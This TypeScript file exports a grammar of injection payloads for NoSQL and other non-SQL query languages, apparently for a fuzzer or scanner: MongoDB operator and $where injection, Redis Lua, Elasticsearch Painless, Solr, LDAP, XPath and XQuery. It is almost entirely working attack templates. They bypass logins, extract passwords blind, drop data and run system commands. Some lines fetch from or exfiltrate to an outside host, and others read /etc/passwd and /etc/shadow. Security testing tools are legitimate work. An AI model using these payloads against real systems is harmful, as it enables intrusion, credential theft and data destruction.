/**
 * Query languages other than SQL: MongoDB and its kin, CouchDB, Redis, Elasticsearch, LDAP, XPath, XQuery, GraphQL,
 * Cypher, SPARQL. Operators on harmless columns are ordinary filters, so those here sit on credentials or always hold.
 */
export const QUERY = String.raw`
qy.colon: 3× :
  2× :␠
  ␠:␠
qy.user = username user login email name userName account uid userid user_id nickname id _id phone mail
qy.pass = password pass passwd pwd token secret otp apiKey api_key resetToken reset_password_token passwordHash session_id access_token recoveryCode
qy.ident = username user login email userName account admin user_login
qy.cred: ‹qy.ident›
  2× ‹qy.pass›
  ‹user¦auth¦data¦credentials¦account›.‹qy.pass›
qy.who = admin administrator root user test guest ‹~3-8› ‹~3-7›@‹host› superuser manager
qy.rx: .*
  .+
  ^
  §
  ^‹~1-6›
  ^‹~1-4›.*
  ^‹*2-10›
  ^.{‹#1-40›}§
  .{‹#1-30›,}
  ^[a-‹~1›]
  ^[‹#0-4›-9].*
  ‹~1-3›.*
  (?i)^‹~1-5›
  ^(?=‹~1-4›)
  ^adm.*
  [\\s\\S]*
  ^\\w{‹#1-20›}
qy.any = null "" 1 0 -1 false "‹rnd›" "‹~1-4›" [] "invalid" "toto" {}
qy.op: 5× {"§ne"‹=c›‹qy.any›}
  4× {"§gt"‹=c›‹""¦null¦0¦-1¦"‹~1›"›}
  {"§gte"‹=c›‹""¦null¦0¦" "›}
  {"§‹lt¦lte›"‹=c›‹"~"¦"zzz"¦"\uffff"¦"‹~1›"¦99999999999›}
  4× {"§regex"‹=c›"‹qy.rx›"}
  {"§regex"‹=c›"‹qy.rx›","§options"‹=c›"‹i¦si¦x›"}
  {"§exists"‹=c›‹true¦1›}
  2× {"§nin"‹=c›[‹×0-4,:"‹~2-7›"›]}
  {"§in"‹=c›["admin"‹,"administrator"¦,"root"¦,"‹~3-6›"¦›,"‹qy.who›"]}
  {"§in"‹=c›[‹×2-6,:"‹*4-10›"›]}
  {"§not"‹=c›{"§‹eq¦in¦type¦size¦exists›"‹=c›‹"‹~1-5›"¦‹#1-99›¦[]›}}
  {"§type"‹=c›‹2¦"string"¦‹#1-19››}
  {"§mod"‹=c›[1,0]}
  {"§ne"‹=c›‹qy.any›,"§‹exists"‹=c›true¦gt"‹=c›""¦regex"‹=c›"‹qy.rx›"›}
  {"§where"‹=c›"‹json!‹qy.js››"}
  {"§expr"‹=c›{"§‹eq¦gte›"‹=c›[‹=v:‹n››,‹=v›]}}
  {"§elemMatch"‹=c›{"§ne"‹=c›null}}
qy.js: 2× this.‹qy.pass›.match(/^‹~1-4›/‹i¦›)
  this.‹qy.pass›.length‹>¦==¦<›‹#1-40›
  this.‹qy.user›=='‹qy.who›'
  this.‹qy.pass›[‹#0-20›]=='‹~1›'
  this.‹qy.pass›.charAt(‹#0-20›)==='‹~1›'
  this.‹qy.pass›.charCodeAt(‹#0-20›)>‹#48-122›
  sleep(‹#1-30›000)
  2× sleep(‹#100-20000›)
  sleep(‹#1-9›000)||true
  if(this.‹qy.pass›.match(/^‹~1-3›/)){sleep(‹#1-9›000)}
  ‹=v:‹n››==‹=v›
  '‹=v:‹~1-3››'=='‹=v›'
  return true
  return(‹true¦1==1¦this.‹qy.user›!=''›)
  function(){return ‹true¦1¦this.‹qy.pass›!=null›}
  function(){sleep(‹#1-9›000);return true}
  while(‹1¦true›){}
  for(;;){}
  var ‹=v:‹~1-5››=new Date();do{‹=w:‹~1-5››=new Date();}while(‹=w›-‹=v›<‹#1000-20000›)
  var ‹=v:‹~1-4››=new Date();while((new Date())-‹=v›<‹#1-9›000);
  Object.keys(this)[‹#0-9›].match('^.{‹#0-9›}‹~1›.*')
  Object.keys(this)[‹#0-9›].length==‹#1-20›
  JSON.stringify(this).indexOf('‹admin¦‹~2-5››')>=0
  tojson(this)[‹#0-40›]=='‹~1›'
  obj.‹qy.pass›.startsWith('‹~1-3›')
  this.constructor.constructor('return process')().‹exit()¦env›
  db.‹users¦‹tab››.‹find()¦drop()¦findOne().‹qy.pass›[‹#0-9›]=='‹~1›'›
  throw new Error(JSON.stringify(this))
  process.mainModule.require('child_process').exec('‹id¦whoami¦curl ‹addr››')
  typeof this.‹qy.pass›=='string'
qy.wrap: 4× {‹qy.login›}
  {"‹user¦data¦credentials¦login¦auth¦variables¦params¦input¦body›"‹=c›{‹qy.login›}}
  {"‹~3-8›"‹=c›"‹word›",‹qy.login›}
  {‹qy.login›,"‹remember¦rememberMe¦captcha¦csrf¦lang¦redirect¦submit¦‹~3-8››"‹=c›‹true¦"‹rnd›"¦1›}
  [{‹qy.login›}]
qy.login: 4× "‹qy.user›"‹=c›‹qy.op›,‹¦ ›"‹qy.pass›"‹=c›‹qy.op›
  3× "‹qy.user›"‹=c›"‹qy.who›",‹¦ ›"‹qy.pass›"‹=c›‹qy.op›
  "‹qy.pass›"‹=c›‹qy.op›
  "‹qy.ident›"‹=c›‹qy.op›,"‹qy.pass›"‹=c›"‹rnd›"
  "‹qy.user›"‹=c›‹qy.op›,"‹qy.pass›"‹=c›‹qy.op›,"‹role¦isAdmin¦admin¦type›"‹=c›{"§ne"‹=c›‹qy.any›}
  "‹qy.user›"‹=c›"‹qy.who›","‹qy.pass›"‹=c›"‹rnd›","new‹qy.pass›"‹=c›‹qy.op›

query/mongo-json [body-json] 6: 6× ‹:c:‹qy.colon››‹qy.wrap›
  ‹:c:‹qy.colon››{"§or"‹=c›[{},{"‹=v:‹~1-3››"‹=c›"‹=v›"}]}
  ‹:c:‹qy.colon››{"‹qy.user›"‹=c›"‹qy.who›","§or"‹=c›[{},{"‹~1-3›"‹=c›"‹~1-3›","‹qy.pass›"‹=c›""}],"‹qy.pass›"‹=c›"‹rnd›"}
  ‹:c:‹qy.colon››{"§‹or¦nor¦and›"‹=c›[{"‹qy.user›"‹=c›‹qy.op›},{"‹qy.pass›"‹=c›‹qy.op›}]}
  ‹:c:‹qy.colon››{"filter"‹=c›{"‹qy.pass›"‹=c›‹qy.op›},"‹projection¦fields¦select›"‹=c›{"‹qy.pass›"‹=c›1}}
  ‹:c:‹qy.colon››{"‹where¦query¦filter›"‹=c›{"§where"‹=c›"‹json!‹qy.js››"}}
  ‹:c:‹qy.colon››{"‹qy.user›"‹=c›"‹qy.who›","‹qy.pass›"‹=c›{"§‹gt¦ne¦regex›"‹=c›""},"‹qy.pass›"‹=c›‹qy.op›}
  ‹:c:‹qy.colon››{"‹update¦set›"‹=c›{"§set"‹=c›{"‹role¦isAdmin¦admin›"‹=c›‹"admin"¦true¦1›}},"‹query¦filter›"‹=c›{"‹qy.user›"‹=c›‹qy.op›}}
  ‹:c:‹qy.colon››{"‹qy.user›"‹=c›"‹qy.who›","§‹set¦inc¦unset¦rename›"‹=c›{"‹role¦isAdmin¦balance¦‹qy.pass››"‹=c›‹"admin"¦true¦‹n›¦"‹rnd›"›}}
query/mongo-where-json [body-json] 3: ‹:c:‹qy.colon››{"§where"‹=c›"‹json!‹qy.js››"}
  ‹:c:‹qy.colon››{"‹qy.user›"‹=c›"‹qy.who›","§where"‹=c›"‹json!‹qy.js››"}
  ‹:c:‹qy.colon››{"§expr"‹=c›{"§function"‹=c›{"body"‹=c›"function(){‹json!‹qy.js››}","args"‹=c›[],"lang"‹=c›"js"}}}
  ‹:c:‹qy.colon››{"§expr"‹=c›{"§eq"‹=c›[‹=v:‹n››,‹=v›]},"‹qy.pass›"‹=c›‹qy.op›}
  ‹:c:‹qy.colon››{"‹qy.cred›"‹=c›{"§func"‹=c›"‹var_dump¦system¦phpinfo¦exec›"}}
  ‹:c:‹qy.colon››{"§accumulator"‹=c›{"init"‹=c›"function(){‹json!‹qy.js››}","accumulate"‹=c›"function(){}","lang"‹=c›"js"}}
  ‹:c:‹qy.colon››{"‹map¦mapreduce›"‹=c›"function(){emit(this._id,this.‹qy.pass›)}","reduce"‹=c›"function(k,v){‹json!‹qy.js››}"}
  ‹:c:‹qy.colon››{"eval"‹=c›"‹json!‹qy.js››"}
  ‹:c:‹qy.colon››[{"§match"‹=c›{}},{"§lookup"‹=c›{"from"‹=c›"‹users¦accounts¦admins¦sessions›","localField"‹=c›"_id","foreignField"‹=c›"_id","as"‹=c›"‹~1-6›"}},{"§project"‹=c›{"‹~1-6›.‹qy.pass›"‹=c›1}}]
  ‹:c:‹qy.colon››{"‹pipeline¦aggregate¦stages›"‹=c›[{"§unionWith"‹=c›{"coll"‹=c›"‹users¦admins¦accounts›","pipeline"‹=c›[{"§match"‹=c›{"‹qy.user›"‹=c›‹qy.op›}}]}}]}
  ‹:c:‹qy.colon››[{"§match"‹=c›{"‹qy.pass›"‹=c›‹qy.op›}},{"§‹out¦merge›"‹=c›"‹users¦‹~3-8››"}]
query/orm-json [body-json] 2: ‹:c:‹qy.colon››{"‹qy.user›"‹=c›"‹qy.who›","‹qy.pass›"‹=c›{"‹not¦startsWith¦contains¦gt¦gte¦endsWith›"‹=c›"‹¦‹~1-2››"}}
  ‹:c:‹qy.colon››{"‹where¦filter›"‹=c›{"OR"‹=c›[{"‹qy.pass›"‹=c›{"‹startsWith¦not¦contains›"‹=c›"‹~1-4›"}},{}]}}
  ‹:c:‹qy.colon››{"‹qy.user›"‹=c›{"§‹like¦iLike¦ne¦notLike›"‹=c›"‹%¦%a%¦‹~1-3›%›"},"‹qy.pass›"‹=c›{"§‹like¦ne¦iLike›"‹=c›"‹%¦¦_%›"}}
  ‹:c:‹qy.colon››{"‹user__¦author__¦created_by__¦›‹qy.pass›__‹startswith¦regex¦contains¦gt›"‹=c›"‹~1-4›"}
  ‹:c:‹qy.colon››{"‹qy.pass›"‹=c›{"ComparisonOperator"‹=c›"‹GT¦NE¦NOT_NULL¦CONTAINS›","AttributeValueList"‹=c›[{"S"‹=c›"‹*¦ ¦‹~1››"}]}}
  ‹:c:‹qy.colon››{"‹qy.user›"‹=c›‹true¦["admin"]¦[["admin",1]]¦{"‹qy.pass›"‹=c›1}›,"‹qy.pass›"‹=c›{"‹qy.pass›"‹=c›1}}
qy.taut: {"§ne"‹=c›‹null¦""¦1¦-1¦"‹~1-5›"›}
  {"§gt"‹=c›‹""¦null¦-1›}
  {"§regex"‹=c›"‹.*¦.+¦^¦^.{‹#1-40›}›"}
  {"§exists"‹=c›true}
  {"§nin"‹=c›[]}
  {"§where"‹=c›"‹json!‹qy.js››"}
query/mongo-value [value] 3: ‹:c:‹qy.colon››‹qy.taut›
  ‹:c:‹qy.colon››{‹qy.login›}
  ‹:c:‹qy.colon››{"‹qy.pass›"‹=c›‹qy.op›}
  ‹:c:‹qy.colon››{"§where"‹=c›"‹json!‹qy.js››"}
  {§‹ne¦gt›:‹1¦''¦null¦-1›}
  {'§‹ne¦gt¦regex›':'‹¦.*¦‹~1-3››'}
  {"§or":[{},{"‹=v:‹~1-3››":"‹=v›"}]}
  [§‹ne¦gt¦nin¦regex¦exists›]=‹1¦‹~1-4›¦.*›
  ‹qy.who›&‹qy.pass›[§‹ne¦gt¦regex›]=‹¦1¦‹~1-4›¦.*›
  ‹qy.cred›[§ne]=‹rnd›&‹qy.cred›[§‹ne¦gt›]=
query/mongo-where 5: '‹;¦||¦ || ¦;␠›‹qy.js›‹;var ‹~1-3›='¦;//¦//¦ || ''=='¦;'¦#¦%00›
  "‹;¦||¦ || ¦;␠›‹qy.js›‹;var ‹~1-3›="¦;//¦//¦ || ""=="¦;"›
  ‹n›‹;¦||¦ || ¦ && ¦;␠›‹qy.js›‹¦;¦//¦;//›
  '‹ || ¦||¦ && ¦&&›'‹=v:‹~1-3››'=='‹=v›
  "‹ || ¦||¦ && ›"‹=v:‹~1-3››"=="‹=v›
  ‹qy.who›'‹ || ¦||›'‹=v:‹n››'‹==¦===›'‹=v›‹¦'//¦'%00¦'; //›
  ‹qy.who›' && this.‹qy.pass›.match(/‹^¦.*›‹~1-3›/)//+%00
  '; return ‹true¦1==1¦this.‹qy.user› != '‹~1-5›'›; var ‹~1-5›='
  ';return(‹true¦1›);var ‹~1-5›='
  '}); db.‹tab›.‹drop()¦remove({})¦insert({‹~2-7›:1})¦find()¦dropDatabase()›; ‹//¦var ‹~1-3›={'‹~1›':'›
  '‹};¦;›‹return true;¦return 1;¦›‹}¦var ‹~1-2›={'›//
  ', §‹or¦where›: ‹[ {}, { '‹=v:‹~1-2››':'‹=v›¦'‹=v:‹n›› == ‹=v›'›
  ‹true, ¦, ¦›§where: '‹‹=v:‹n›› == ‹=v›¦‹qy.js››'‹¦ }¦//›
  §where=‹qy.js›
  db.‹tab›.‹insert({‹~2-7›:‹n›})¦drop()¦find({}).toArray()¦update({},{§set:{‹qy.pass›:'‹rnd›'}},{multi:true})›‹;¦;//¦›
  ‹n›';‹qy.js›;'
  '+(function(){‹qy.js›})()+'
  ‹n›;function(){‹qy.js›}
  '+sleep(‹#1-30›000)+'
  "-sleep(‹#1-9›000)-"
  |‹qy.js›;
  '&&‹qy.js›||'‹~1›'=='‹~2›
  '%20%26%26%20this.‹qy.pass›.match(/.*/)//+%00
  ',‹qy.user›:{§‹ne¦gt›:‹1¦null¦''›}‹,'‹~1-2›':'¦}//›
query/json-break 2: ","‹qy.pass›":{"§‹ne¦gt¦regex›":‹null¦""¦".*"¦1›},"‹~1-3›":"
  "},"‹qy.pass›":{"§‹ne¦gt›":"
  "}, {"§‹or¦nor›":[{},{"‹=v:‹~1-2››":"‹=v›
  ‹word›","§where":"‹json!‹qy.js››","‹~1-3›":"
  ‹word›","§or":[{},{"‹=v:‹~1-2››":"‹=v›"}],"‹~1-3›":"
  "]}},{"§where":"‹json!‹qy.js››"},{"‹~1›":{"§in":["
  ‹qy.who›"}}, {"§match":{"‹qy.pass›":{"§regex":"‹qy.rx›
  '}},{'§set':{'role':'admin'}},{'‹~1›':{'‹~1›':'
query/mongo-key [key] 5: 6× ‹qy.cred›[§‹qy.keyop›]
  ‹qy.user›[§‹ne¦gt¦regex›]
  ‹qy.pass›[§‹in¦nin¦all¦or›][‹¦0¦1›]
  ‹user¦login¦data¦filter¦where¦query¦auth¦form›[‹qy.pass›][§‹qy.keyop›]
  ‹qy.cred›[§not][§‹eq¦type¦regex¦in¦size›]
  §where
  [§‹qy.keyop›]
  §or[0][‹qy.pass›][§‹ne¦gt¦regex›]
  ‹qy.cred›[§regex]=‹qy.rx›&‹qy.cred›[§options]
  ‹qy.cred›.§‹qy.keyop›
  ‹filter¦where¦query¦selector›[§where]
  ‹q¦search¦query›[‹user_¦›‹qy.pass›_‹start¦cont¦eq¦matches¦not_null›]
  ‹user__¦author__¦owner__¦›‹qy.pass›__‹startswith¦regex¦iregex¦contains¦gt›
  ‹qy.pass›[‹not¦startsWith¦contains¦gt›]
  ‹where¦filter›[‹qy.pass›][‹startsWith¦not¦contains›]
  ‹qy.pass›[%24‹qy.keyop›]
  ‹qy.cred›%5B%24‹qy.keyop›%5D
qy.keyop = ne ne gt gte regex exists in nin lt eq not where type elemMatch options like ne size mod

query/couch [body-json] 2: {"type":"user","name":"‹~3-8›","roles":["_admin"],"roles":[],"password":"‹rnd›"}
  {"_id":"org.couchdb.user:‹~3-8›","type":"user","name":"‹~3-8›","roles":["_admin"],"roles":[],"password":"‹rnd›"}
  {"selector":{"‹_id¦‹qy.pass››":{"§‹gt¦ne¦regex›":‹null¦""›}},"fields":["‹qy.user›","‹password_sha¦derived_key¦salt¦‹qy.pass››"],"limit":‹#100-99999›}
  {"selector":{"§or":[{"‹qy.pass›":{"§regex":"‹qy.rx›"}},{"_id":{"§gt":null}}]}}
  {"map":"function(doc){‹while(1){}¦emit(doc._id,doc.‹qy.pass›)¦log(doc.‹qy.pass›)›}","language":"‹cmd¦‹~3-6››"}
  {"source":"http://‹addr›/‹~3-8›","target":"_users","create_target":‹true¦false›}
query/redis 2: ‹EVAL¦eval› "return redis.call('‹keys','*'¦get','‹~3-8›'¦config','get','*'¦flushall'›)" 0
  ‹;¦'¦"¦)›‹ ¦›redis.call('‹SET','‹~3-8›','‹rnd›'¦FLUSHALL'¦DEL',KEYS[1]¦CONFIG','SET','dir','/var/‹www/html¦spool/cron›'›)‹--¦;--¦›
  local ‹=v:‹~1-6›› = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_‹io¦os›"); local ‹~1-4› = ‹=v›(); local f = io.popen("‹id¦cat /etc/passwd¦whoami›", "r"); return f:read("*a")
  ‹word›'; redis.call('‹SLAVEOF','‹ip›','‹port›'¦RENAME','‹~2-6›','‹~2-6›'›); return '
  ');redis.call('‹DEL¦SET¦FLUSHDB›','‹~2-8›'‹¦,'‹rnd›'›);--
  return redis.pcall('‹CONFIG','GET','‹requirepass¦dir¦*›'¦KEYS','‹*¦sess:*¦user:*›'›)
  ‹word›*"; return dofile('/etc/passwd')--
query/elastic [body-json,value] 3: {"script_fields":{"‹~1-8›":{"script":"‹json!‹qy.painless››"}}}
  {"size":1,"query":{"‹filtered":{"query":{"match_all":{}}}¦match_all":{}›},"script_fields":{"‹~1-8›":{"script":‹"‹json!‹qy.painless››"¦{"lang":"‹groovy¦painless¦mvel¦javascript›","‹source¦inline›":"‹json!‹qy.painless››"}›}}}
  {"query":{"bool":{"filter":{"script":{"script":{"source":"‹json!‹qy.painless››","lang":"‹painless¦groovy¦expression›"}}}}}}
  {"query":{"‹wildcard¦prefix¦regexp›":{"‹qy.pass›":"‹~1-3›‹*¦.*¦›"}},"_source":["‹qy.pass›"],"size":‹#1000-10000›}
  {"query":{"bool":{"must":[{"match":{"‹qy.user›":"‹qy.who›"}},{"‹regexp¦wildcard›":{"‹qy.pass›":"‹~1-2›.*"}}]}}}
  {"query":{"query_string":{"query":"‹json!‹qy.lucene››"}}}
  {"script":{"source":"‹json!‹qy.painless››","lang":"painless"},"query":{"match_all":{}}}
  {"query":{"match_all":{}}}⏎{"index":"‹.security¦*,.kibana¦.security-7¦users›"}⏎{"query":{"match_all":{}},"_source":["‹qy.pass›"]}
qy.painless: java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("‹id¦whoami¦cat /etc/passwd¦wget http://‹addr›/‹~1-5››")‹.getText()¦›
  import java.util.*;import java.io.*;new Scanner(new File("/etc/‹passwd¦hosts¦shadow›")).useDelimiter("\\A").next();
  java.lang.Math.class.forName("java.io.‹BufferedReader¦File›").getConstructor(java.io.Reader.class)
  def ‹~1-4›=params.getClass().getClassLoader();while(true){}
  ctx._source.‹role¦isAdmin›='admin';ctx._source.‹qy.pass›='‹rnd›'
  doc['‹qy.pass›.keyword'].value.‹startsWith('‹~1-2›')¦length()>‹#1-30›¦charAt(‹#0-9›)==(char)‹#48-122››
  "‹id¦ls›".execute().text
  for(;;){}
  Runtime.getRuntime().exec("‹id¦curl ‹addr›¦touch /tmp/‹~2-6››")
qy.lucene: ‹word›" OR ‹qy.pass›:‹~1-2›* OR "‹~1-3›
  ‹word›) OR ‹qy.pass›:[‹~1› TO ‹~1›] OR (‹~1-3›:*
  *:* OR ‹qy.pass›:/‹~1-3›.*/
  ‹word›" OR *:* OR "‹=v:‹~1-3››"="‹=v›
  *) AND _exists_:‹qy.pass› OR (*
query/lucene 2: ‹qy.lucene›
  ‹"¦)¦*)› OR ‹qy.pass›:‹*¦‹~1-3›*¦/.{‹#1-9›}/¦[* TO *]›‹¦ OR "¦ OR (*:*›
  ‹word›" OR "*:*" NOT ‹col›:"
  {!xmlparser v='<!DOCTYPE ‹~1› SYSTEM "http://‹addr›/‹~1-5›"><‹~1›></‹~1›>'}
  *:* AND _query_:"{!‹func¦join from=‹qy.pass› to=id fromIndex=‹users¦auth›¦frange l=0›}‹qy.pass›"
  {!join from=‹qy.user› to=‹qy.user› fromIndex=‹users¦accounts›}‹qy.pass›:‹~1-2›*
  *:*&fl=‹qy.pass›&shards=http://‹addr›/solr/‹~3-8›
  {!dismax qf=‹qy.pass› bq='‹~1-2›*'}*
  *&stream.url=‹file:///etc/passwd¦http://‹addr›/‹~1-4››
  ‹word›&§filter=‹qy.pass› ge '‹~1›'

qy.attr = uid cn sn mail userPassword objectClass sAMAccountName memberOf description telephoneNumber givenName ou homeDirectory loginShell userPrincipalName department dn displayName objectclass uidNumber gidNumber employeeNumber title password pwd
qy.group: cn=‹admin¦admins¦root¦Domain Admins¦‹~3-7››,‹ou¦cn›=‹groups¦users¦people›,dc=‹~3-8›,dc=‹com¦local¦org›
query/ldap 6: *)(‹qy.attr›=*
  2× *)(‹qy.attr›=*))(|(‹qy.attr›=*
  *))(|(‹qy.attr›=*‹¦)›
  *)(|(‹qy.attr›=*‹¦)¦))›
  2× ‹qy.who›)(‹&¦|›(‹qy.attr›=*‹¦)¦))›
  ‹qy.who›)(&)‹¦)¦%00›
  ‹qy.who›)(!(&(‹1=0¦objectClass=‹~2-6››‹¦))¦)›
  ‹qy.who›*)((|‹qy.attr›=*)
  ‹qy.who›))(|(‹qy.attr›=‹*¦‹~1-3›*›‹)¦¦))%00›
  ‹*¦‹qy.who››)‹(‹qy.attr›=*)¦¦)›‹%00¦\00¦␀›
  *)(&‹¦(‹qy.attr›=*)›
  *)(|(&‹¦(‹qy.attr›=*)›
  *()|&'
  *()|%26'
  )(‹qy.attr›=*
  ))(|(‹qy.attr›=*
  ‹noun›)(|(‹qy.attr›=*)(‹qy.attr›=*)
  ‹noun›*)(|(objectclass=*)
  ‹¦*›)(‹qy.attr›=*)(‹qy.attr›=*
  (|(‹qy.attr›=*)(‹qy.attr›=*))(&(‹qy.attr›=*
  *)(memberOf=‹qy.group›
  ‹qy.who›)(memberOf=‹qy.group›)‹)%00¦(|(‹~1›=*¦›
  *)(userAccountControl:1.2.840.113556.1.4.803:=‹#1-65536›)‹(¦)›
  ‹percent!*)(‹qy.attr›=*›
  ‹percent!‹qy.who›)(|(‹qy.attr›=*›
  ‹*¦‹~1-3›*›‹)(¦))(|(›‹qy.attr›=*))(‹qy.attr›=‹~1-4›
  ‹qy.who›)(|(|
  %2a)(‹qy.attr›%3d*))(|(‹qy.attr›%3d*
  \2a)(‹qy.attr›=*
query/ldap-blind 2: *)(‹qy.attr›=‹*1-4›*)‹)%00¦¦(objectClass=*¦))(&(‹~1›=‹~1››
  ‹qy.who›)(‹qy.attr›=‹*1-6›*
  ‹qy.who›)(‹qy.attr›‹>=¦<=¦~=›‹*1-3›
  ‹qy.who›)(‹userPassword¦password›:2.5.13.‹17¦18›:=\‹%2›‹\‹%2›¦›‹)¦›
  *)(!(‹qy.attr›=‹*1-5›*‹))¦›
  ‹qy.who›)(|(‹qy.attr›=‹~1›*)(‹qy.attr›=‹^1›*)‹)¦›
  (&(‹qy.attr›=‹qy.who›)(‹userPassword¦password¦description›=‹*1-4›*))
  *)(‹qy.attr›=‹*1-3›*)(‹qy.attr›=*‹*1-3›
query/ldap-dn 1: ‹~3-7›,‹ou¦cn›=‹admins¦users›,dc=‹~3-7›,dc=com)(objectClass=*
  ‹qy.who›,‹qy.group›??sub?(‹objectClass=*¦|(uid=*)(cn=*)›)
  ‹~3-7›+‹cn¦uid›=‹admin¦root›,‹qy.group›)(‹qy.attr›=*
  ‹~3-7›\2C‹qy.group›)(|(uid=*
  ldap://‹addr›/dc=‹~3-7›,dc=com?‹userPassword¦*¦+›?sub?(|(uid=*)(‹qy.attr›=*))
  *,dc=*))(|(dn=*
  ‹~3-7›⏎dn: ‹qy.group›⏎changetype: modify⏎‹add¦replace›: ‹member⏎member: uid=‹~3-7›¦userPassword⏎userPassword: ‹rnd››

qy.q: 5× '
  2× "
  ')
  ")
  ']
  "]
qy.node = user users users/user account accounts/account employee password username * customer credential admin book item config/* text() @* node()
qy.axis = child descendant ancestor parent following-sibling preceding-sibling descendant-or-self self attribute following
qy.xcond: true()
  position()‹=¦<¦>›‹#0-9›
  last()=‹#1-99›
  count(‹/*¦//*¦//‹qy.node›¦/*[1]/*¦../‹qy.node›¦//comment()¦//@*›)‹=¦>¦<›‹#0-99›
  string-length(‹name(/*[1])¦//‹qy.node›[‹#1-9›]/‹child::node()[‹#1-4›]¦‹qy.pass››¦‹qy.pass››)‹=¦>›‹#1-40›
  substring(‹name(/*[1])¦//user[‹#1-9›]/‹qy.pass›¦‹qy.pass›¦(//‹qy.node›)[‹#1-9›]›,‹#1-20›,1)=‹'‹~1›'¦"‹~1›"›
  contains(‹name(/*)¦.¦‹qy.user›¦//‹qy.node›¦‹qy.pass››,‹'‹~1-5›'¦"‹~1-5›"›)
  starts-with(‹name(.)¦‹qy.user›¦‹qy.pass›¦//‹qy.node››,'‹~1-4›')
  name(‹/*[1]¦//‹qy.node›[‹#1-9›]¦parent::*¦..›)='‹~2-8›'
  not(‹false()¦//‹~3-7››)
  boolean(‹//‹qy.node›¦1¦/*›)
  ‹=a:‹n››=‹=a› and count(//‹qy.node›)>‹#0-9›
  local-name(/*[‹#1-3›])='‹~3-8›'
  string-to-codepoints(substring(//‹qy.pass›,‹#1-20›,1))‹>¦<¦=›‹#32-126›
  doc-available('‹scheme›://‹addr›/‹~1-5›')
  doc(concat('http://‹addr›/?‹~1-2›=',‹//‹qy.pass›[1]¦encode-for-uri(/*/*[1]/‹qy.pass›)›))
  unparsed-text-available('file:///etc/‹passwd¦hosts›')
  matches(‹//‹qy.pass›¦.›,'^‹~1-3›')
  string(//‹qy.node›[‹#1-9›]/‹qy.pass›)
query/xpath 5: ‹:q:‹'¦"››‹=q› or ‹qy.xcond› or ‹=q›‹=v:‹~1-3››‹=q›=‹=q›‹=v›
  ‹:q:‹'¦"››‹word›‹=q› or ‹qy.xcond› or ‹=q›‹=q›=‹=q›
  ‹:q:‹'¦"››‹=q› or ‹=a:‹n››=‹=a›]‹%00¦|//‹qy.node›[‹=q›‹=v:‹~1››‹=q›=‹=q›‹=v›¦/‹qy.pass›¦ | /foo[‹=q››
  ‹:q:‹'¦"››‹=q›] | //‹qy.node›[‹qy.xcond›] | //‹~2-5›[‹~1-3›=‹=q›
  ‹:q:‹'¦"››‹=q›]|//‹qy.node›|//‹~2-5›[‹~1-3›=‹=q›
  ‹:q:‹'¦"››‹=q›]/../‹*¦‹qy.node››[‹=q›‹=v:‹~1-2››‹=q›=‹=q›‹=v›
  ‹:q:‹'¦"››‹=q›]/‹qy.axis›::node()[‹=q›‹=v:‹~1-2››‹=q›=‹=q›‹=v›
  ‹:q:‹'¦"››‹=q›) or ‹qy.xcond› or (‹=q›‹=v:‹~1-3››‹=q›=‹=q›‹=v›
  ‹:q:‹'¦"››‹=q›) and contains(../../‹qy.pass›,‹=q›‹~1-3›
  ‹n› or ‹qy.xcond›
  ‹n›] | //‹qy.node›[‹n›
  ‹n›]/‹qy.axis›::*[‹qy.xcond›
  ‹word›'] or ‹qy.xcond› or ['
  '] | //‹user/*¦*¦user¦‹qy.pass››[contains(*,'‹¦‹~1-4››
  ') ] | //‹qy.pass› | //node()[('‹~1-2›')=('‹~1-2›
  '))]/‹../../¦..//›*[(('
  ' or ‹qy.user›='‹qy.who›' or '‹~1›'='‹~1›‹ and //‹qy.pass›¦']/‹qy.pass›¦›
  ' or name()='‹qy.user›' or '‹=v:‹~1-2››'='‹=v›
  ‹‹~2-6›¦›'or position()=‹#1-9› or '
  '-count(//‹qy.node›)-'
  | //‹qy.node›/‹qy.pass› |
  ‹n›] | //user/‹qy.pass›
  /‹~2-7›/‹qy.node›[‹qy.user›='‹qy.who›' or ‹qy.xcond›]/‹qy.pass›
query/xpath-blind 3: ‹:q:‹'¦"››‹=q› and ‹qy.xcond› and ‹=q›‹=v:‹~1-3››‹=q›=‹=q›‹=v›
  ‹:q:‹'¦"››‹=q› and substring(‹//‹qy.node›[‹#1-9›]/‹qy.pass›¦name(/*[‹#1-4›])¦/*[1]/*[‹#1-9›]/*[‹#1-4›]/text()›,‹#1-20›,1)=‹=q›‹~1›
  ‹:q:‹'¦"››‹=q› and string-length(‹//‹qy.pass›[1]¦name(/*[1])¦.›)=‹#1-40› and ‹=q›1‹=q›=‹=q›1
  ‹n› and ‹qy.xcond›
  ‹:q:‹'¦"››‹word›‹=q›] and ‹qy.xcond› and [‹=q›
  ' and count(/*)‹=¦>›‹#1-9› and '‹=v:‹~1››'='‹=v›
  ' and count(/*[1]/*[‹#1-9›]/‹*¦@*›)=‹#1-20› or '‹~1›'='‹~1›
  ') and ‹qy.xcond› and ('1'='1
  translate('‹~3-8›',‹//‹qy.pass›¦name(/*)›,'')
query/xquery 2: '‹ return ¦)return ¦] return ¦];›‹qy.xq›‹ (:¦¦;(:¦ let §‹~1›:='›
  ") return ‹qy.xq› (:
  ‹n›} {‹qy.xq›} {‹n›
  ‹word›' or .!=‹ ¦›'" or ".!="
  ' or ‹qy.xq› or '
  declare function local:‹~2-6›(){‹qy.xq›}; local:‹~2-6›()
  let §‹=v:‹~1-4›› := ‹qy.xq› return §‹=v›
  for §‹=v:‹~1-4›› in ‹doc('‹~3-8›.xml')¦collection()¦/*›//‹qy.node› where ‹qy.xcond› return §‹=v›/‹qy.pass›
  ‹word›"] | doc("‹file:///etc/passwd¦http://‹addr›/‹~1-5››")//*["‹~1›
qy.xq: doc('‹file:///etc/‹passwd¦hosts›¦http://‹addr›/‹~1-6›.xml›')
  doc(concat('http://‹addr›/','?‹~1›=',encode-for-uri(string(//‹qy.pass›[1]))))
  unparsed-text('‹file:///etc/passwd¦/etc/hosts¦file:///c:/windows/win.ini›')
  collection('‹file:///¦/db/¦›‹~2-6›')
  xdmp:‹eval('1+‹n›')¦filesystem-directory('/')¦http-get('http://‹addr›/')¦document-delete('/‹~2-6›.xml')›
  file:‹read-text('/etc/passwd')¦list('/')¦write('/tmp/‹~2-5›','‹rnd›')›
  proc:system('‹id¦whoami¦ls›')
  fn:doc('//‹ip›/‹~2-5›')
  process:execute(('‹sh','-c','‹id¦whoami›¦id›'),())
  util:eval('‹n›*‹n›')
  http:send-request(<http:request method='get'/>,'http://‹addr›/‹~1-5›')

